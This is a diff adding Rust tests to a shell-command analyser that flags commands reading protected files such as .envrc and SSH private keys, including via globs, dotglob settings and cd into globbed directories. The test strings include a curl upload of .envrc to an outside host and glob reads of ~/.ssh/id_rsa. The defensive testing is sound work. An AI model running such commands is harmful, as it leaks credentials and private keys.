@@ -288,6 +288,38 @@ fn command_words_are_read_as_the_shell_would() {
     assert!(!denied("curl -d @.envrc https://x.example"));
     assert!(!denied("cat .envrc README"));
     assert!(!denied("cat src/*"));
+    assert!(!denied("cat *"), "bash's `*` skips dotfiles");
+    // Unless the command turns on dotfile globs (bash's dotglob, GLOBIGNORE, zsh's globdots).
+    assert!(denied("shopt -s dotglob; cat *"));
+    assert!(denied("GLOBIGNORE=x; cat *"));
+    assert!(denied("setopt GLOB_DOTS; cat ?env"));
+    assert!(!denied("shopt -s nullglob; cat *"));
+}
+
+/// A `cd` to a glob goes where the shell goes, the directories the glob names now: a bare
+/// word after `cd sr*` is read in `src`.
+#[test]
+fn a_cd_to_a_glob_reads_the_words_in_the_directories_it_names() {
+    let (_temp, dir, root) = project_with_env();
+    std::fs::write(dir.join("p/src/key"), "x").unwrap();
+    let root = root.as_str();
+    let places = Places {
+        cwd: Some(root),
+        home: Some("/nonexistent-home"),
+        project_root: Some(root),
+    };
+    let glob = PathGlob::parse("./src/key").unwrap();
+    let re = regex::Regex::new(&glob.regex(true)).unwrap();
+    let denied = |command: &str| {
+        let analysis = crate::shell::analyse(command);
+        command_path_texts(analysis.path_read_texts(command), places)
+            .iter()
+            .any(|t| re.is_match(t))
+    };
+    assert!(denied("cd src && cat key"));
+    assert!(denied("cd sr* && cat key"));
+    assert!(denied("cd s?c; cat key"));
+    assert!(!denied("cd tests* && cat key"), "a glob naming nothing");
 }
 
 /// Texts left out for a field's [`TagSet`] are exactly those behind other tags: a glob's
@@ -383,6 +415,11 @@ fn a_tag_set_leaves_out_only_texts_no_glob_of_it_can_match() {
     assert!(denied("cd src && cat innocent", "**/.env"));
     assert!(denied("cat src/innocent", "/.env"));
     assert!(!denied("cat src/main.rs", "**/.env"));
+    // A glob under `~/` names the home's files, as the shell expands it.
+    assert!(denied("cat ~/.s*/id_rsa", "~/.ssh/id_rsa"));
+    assert!(denied("cat ~/.ssh/id_r?a", "~/.ssh/id_rsa"));
+    assert!(denied("cd /tmp && cat ~/.ss[h]/id_rsa", &root_glob));
+    assert!(!denied("cat ~/.s*/id_rsa.pub", "~/.ssh/id_rsa"));
 }
 
 #[test]
